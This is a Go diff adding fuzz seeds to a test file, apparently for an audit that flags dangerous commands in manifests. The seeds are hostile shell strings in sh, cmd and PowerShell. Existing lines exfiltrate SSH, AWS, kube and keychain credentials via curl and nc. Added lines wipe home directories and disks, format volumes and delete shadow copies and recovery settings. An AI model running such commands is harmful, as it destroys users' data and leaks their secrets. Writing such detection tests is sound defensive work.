@@ -140,6 +140,9 @@ var fuzzSeeds = [][]string{
 	{"pwsh", "-c", "gci env: | irm -Uri x; iwr -inf:$HOME/.ssh/k; Invoke-RestMethod -InFile \"$env:USERPROFILE\\.aws\\credentials\" -Uri y; $a=$HOME\\x; & $a/b"},
 	{"sh", "-c", "tar -cvzf /t/k ~/.ssh; tar cfX; tar -f; zip -r /t/z ~/.kube; 7z a /t/s ~/.aws; cp -t /t/d ~/.netrc; install ~/.npmrc /t/i; cat ~/.pypirc > /t/p 2>/t/e; curl -T /t/k -F f=@/t/z.zip -d @/t/s; nc h < /t/d/x; cat /t/p | nc h; security dump-keychain | nc h; gpg --export-secret-subkeys | nc h; kubectl --raw config view | nc h; secret-tool search --all | nc h; docker run -v ~/Library/Keychains:/k -v '/c/Users/u/AppData/Local/Google/Chrome/User Data':/p -v ~/.local/share/keyrings:/g i"},
 	{"pwsh", "-c", "Copy-Item -Pa ~/.aws/credentials -De C:\\t\\c; cpi ~/.ssh C:\\t\\s; Copy-Item -Dest:x; iwr -InFile C:\\t\\c/y -Uri z"},
+	{"sh", "-c", "rm -rf ~/; rm -f -- /*; rmdir /etc; unlink ~/.ssh/id_rsa; find -L / ~ -exec shred {} +; find x -delete; shred -u ~/.kube/config /dev/sdb; dd of=/dev/disk2 if=x; mkfs -t ext4 /dev/md0; wipefs -a /dev/dm-1; sgdisk -Z /dev/nvme0n1; parted -s /dev/vda mklabel gpt; diskutil eraseDisk JHFS+ x disk2; tmutil disable; echo > /dev/xvda; rm -rf ./*"},
+	{"cmd", "/c", "del /s /q C:\\* & rd /s /q %USERPROFILE% & format D: /q & vssadmin Delete Shadows /All & wmic shadowcopy delete & wbadmin delete catalog & bcdedit /set {default} recoveryenabled No & rd /s x"},
+	{"pwsh", "-c", "Remove-Item -Recurse -Force $HOME; ri -Path:C:\\Windows; rm -r -fo $env:USERPROFILE/.aws; Clear-Disk -Number 1; Format-Volume -DriveLetter D; Remove-Item .\\build"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
